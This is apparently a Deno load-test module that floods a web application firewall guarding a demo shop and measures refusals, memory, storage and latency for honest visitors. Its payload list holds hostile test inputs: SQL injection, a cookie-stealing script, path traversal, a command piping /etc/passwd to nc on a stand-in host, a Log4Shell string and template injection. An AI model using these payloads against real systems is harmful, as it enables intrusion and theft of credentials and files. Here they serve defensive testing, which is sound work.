/**
 * A flood of attack requests through the gate in this process, with honest visitors of the demo shop
 * among them: what it leaves in memory and KV, what is counted and kept, what the honest wait.
 */
import { createApp } from "../../routes/app.ts";
import { parseConfig } from "../../src/config.ts";
import { silentLog } from "../../src/log.ts";
import { createServices } from "../../src/services.ts";
import { createTestClock } from "../../tests/_clock.ts";
import { from } from "../world.ts";

export interface FloodPlan {
  readonly requests: number;
  readonly addresses: number;
}

export interface FloodResult {
  /** Attacks that were answered with 403. */
  readonly refused: number;
  /** Security events counted, by type. */
  readonly events: Readonly<Record<string, number>>;
  /** Security events kept in full. */
  readonly kept: number;
  /** The rate limiter's, one for each address while its window lasts. */
  readonly limitKeys: number;
  /** All others. */
  readonly otherKeys: number;
  readonly blocks: number;
  readonly clients: number;
  readonly heapBefore: number;
  readonly heapAfter: number;
  readonly seconds: number;
  /** What honest requests take, in milliseconds. */
  readonly quiet: Waits;
  readonly flooded: Waits;
  /** Honest requests that were not answered with 200. */
  readonly turnedAway: number;
}

export interface Waits {
  readonly p50: number;
  readonly p99: number;
}

/** Attacks for each honest request. */
const ATTACKS_EACH = 20;
const HONEST_ADDRESSES = 2_000;
const WARM_UP = 1_000;
/** The flood takes a minute of the gate's time, whatever it takes here. */
const FLOOD_MS = 60_000;

const PAYLOADS = [
  "1' UNION SELECT name, password FROM users--",
  "<script>document.location='//x.example/'+document.cookie</script>",
  "../../../../etc/passwd",
  "; cat /etc/passwd | nc x.example 99",
  "${jndi:ldap://x.example/a}",
  "{{7*7}}{{config.items()}}",
  "' OR 1=1 -- -",
];

export async function flood({ requests, addresses }: FloodPlan): Promise<FloodResult> {
  const clock = createTestClock();
  const rawKv = await Deno.openKv(":memory:");
  const config = parseConfig({ KV_PATH: ":memory:" });
  const services = await createServices({ config, clock, log: silentLog, fetch, rawKv });
  const gate = createApp(services);
  let turnedAway = 0;
  let refused = 0;

  const visit = async (at: number): Promise<number> => {
    const startedAt = performance.now();
    const response = await gate(new Request("http://shop.example/us/products"), honest(at));
    await response.arrayBuffer();
    if (response.status !== 200) turnedAway++;
    return performance.now() - startedAt;
  };
  const attack = async (at: number) => {
    const response = await gate(attackOf(at), attacker(at % addresses));
    await response.arrayBuffer();
    if (response.status === 403) refused++;
  };
  /** As many honest visits, each after as many attacks. */
  const run = async (visits: number, attacks: number) => {
    const waits: number[] = [];
    for (let at = 0; at < visits; at++) {
      for (let next = at * attacks; next < (at + 1) * attacks; next++) await attack(next);
      waits.push(await visit(at));
      clock.turn(FLOOD_MS / visits);
      // Timers and KV get their turn, as they do between requests of a network.
      await new Promise((resolve) => setTimeout(resolve, 0));
    }
    return waitsOf(waits);
  };

  const visits = requests / ATTACKS_EACH;
  await run(WARM_UP, 0);
  const quiet = await run(visits, 0);
  const heapBefore = Deno.memoryUsage().heapUsed;
  const startedAt = performance.now();
  const flooded = await run(visits, ATTACKS_EACH);
  const seconds = (performance.now() - startedAt) / 1_000;
  const heapAfter = Deno.memoryUsage().heapUsed;
  const { incidents, blocks, suspicion } = services;
  await Promise.all([incidents.flush(), blocks.flush(), suspicion.flush()]);
  const { events } = await incidents.report({ from: 0, to: clock.now() });
  const entries = await Array.fromAsync(rawKv.list({ prefix: [] }));
  const limitKeys = entries.filter(({ key }) => key[0] === "rl").length;
  const result = {
    refused,
    events,
    kept: entries.filter(({ key }) => key[0] === "security_event").length,
    limitKeys,
    otherKeys: entries.length - limitKeys,
    blocks: blocks.size,
    clients: suspicion.size,
    heapBefore,
    heapAfter,
    seconds,
    quiet,
    flooded,
    turnedAway,
  };
  await services.site.close();
  await services.stop();
  return result;
}

export async function measureFlood(plan: FloodPlan): Promise<string[]> {
  const result = await flood(plan);
  const mebi = (bytes: number) => `${(bytes / 1024 / 1024).toFixed(0)} MiB`;
  const waits = ({ p50, p99 }: Waits) => `p50 ${p50.toFixed(2)} ms, p99 ${p99.toFixed(2)} ms`;
  const events = Object.entries(result.events).map(([type, count]) => `${type} ${count}`);
  const { refused, seconds, kept, blocks, clients, heapBefore, heapAfter } = result;
  return [
    `flood: ${plan.requests} attacks from ${plan.addresses} addresses within a minute of the gate's time`,
    `  refused ${refused}, honest turned away ${result.turnedAway}, in ${
      seconds.toFixed(1)
    } s here`,
    `  honest page, quiet: ${waits(result.quiet)}; in the flood: ${waits(result.flooded)}`,
    `  events counted: ${events.join(", ")}; kept in full: ${kept}`,
    `  KV keys: ${result.limitKeys} of rate limits, ${result.otherKeys} others; blocks ${blocks}, clients remembered ${clients}, ` +
    `heap ${mebi(heapBefore)} before, ${mebi(heapAfter)} after`,
  ];
}

/** Each address sends its own order of payloads, a third of them in a body. */
function attackOf(at: number): Request {
  const payload = PAYLOADS[(at + Math.floor(at / PAYLOADS.length)) % PAYLOADS.length];
  if (at % 3 > 0) {
    return new Request(`http://shop.example/us/products?q=${encodeURIComponent(payload)}&n=${at}`);
  }
  return new Request("http://shop.example/us/orders", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ name: "Ann", note: payload, n: at }),
  });
}

const attacker = (at: number) => from(`45.${at >> 16 & 255}.${at >> 8 & 255}.${at & 255}`);
const honest = (at: number) => from(`81.2.${at % HONEST_ADDRESSES >> 8}.${at & 255}`);

function waitsOf(times: number[]): Waits {
  times.sort((a, b) => a - b);
  return { p50: times[times.length >> 1], p99: times[Math.floor(times.length * 0.99)] };
}
